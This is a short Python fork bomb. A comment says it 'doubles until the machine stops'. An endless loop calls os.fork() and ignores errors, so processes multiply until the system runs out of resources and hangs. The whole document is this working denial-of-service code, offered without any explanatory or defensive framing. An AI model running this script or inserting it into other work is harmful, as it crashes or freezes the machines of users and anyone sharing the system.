# Doubles until the machine stops.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
